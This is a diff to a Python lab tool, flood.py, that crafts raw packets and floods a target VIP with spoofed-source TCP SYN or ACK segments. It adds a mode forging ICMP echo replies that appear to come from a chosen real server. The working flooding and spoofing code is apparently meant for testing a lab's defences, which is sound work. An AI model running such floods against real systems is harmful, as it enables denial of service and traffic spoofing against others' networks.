@@ -1,10 +1,13 @@
 #!/usr/bin/env python3
-"""flood: spoofed-source TCP segments at a VIP from a raw socket, as fast as Python
-goes, for the lab's attack scenarios (tests/lab/t_attack.sh). Sources are drawn from
-198.18.0.0/15 (the benchmarking range: nothing in the lab answers for it).
+"""flood: spoofed packets from a raw socket, as fast as Python goes, for the lab's
+attack scenarios (tests/lab/t_attack.sh).
 
-    flood.py KIND DST DPORT SECONDS       KIND: ack | syn
-Prints the number of segments sent.
+    flood.py ack|syn DST DPORT SECONDS    TCP segments from sources drawn from
+                                          198.18.0.0/15 (the benchmarking range:
+                                          nothing in the lab answers for it)
+    flood.py echoreply DST SRC SECONDS    ICMP echo replies "from" SRC (a real server,
+                                          say), random identifier, sequence and payload
+Prints the number of packets sent.
 """
 import random
 import socket
@@ -32,14 +35,28 @@ def segment(src, dst, sport, dport, flags):
     return ip + tcp
 
 
+def echo_reply(src, dst):
+    data = random.randbytes(32)
+    icmp = struct.pack("!BBHHH", 0, 0, 0, random.getrandbits(16), random.getrandbits(16))
+    icmp = icmp[:2] + struct.pack("!H", csum(icmp + data)) + icmp[4:] + data
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, 64, 1, 0, src, dst)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    return ip + icmp
+
+
 def main():
-    kind, dst, dport, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
-    flags = {"ack": 0x10, "syn": 0x02}[kind]
+    kind, dst, secs = sys.argv[1], sys.argv[2], float(sys.argv[4])
     d = socket.inet_aton(dst)
     pkts = []
-    for i in range(4096):
-        src = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
-        pkts.append(segment(src, d, 1024 + random.randrange(60000), dport, flags))
+    if kind == "echoreply":
+        src = socket.inet_aton(sys.argv[3])
+        pkts = [echo_reply(src, d) for _ in range(4096)]
+    else:
+        flags = {"ack": 0x10, "syn": 0x02}[kind]
+        dport = int(sys.argv[3])
+        for i in range(4096):
+            src = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
+            pkts.append(segment(src, d, 1024 + random.randrange(60000), dport, flags))
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
     sent, end, addr = 0, time.monotonic() + secs, (dst, 0)
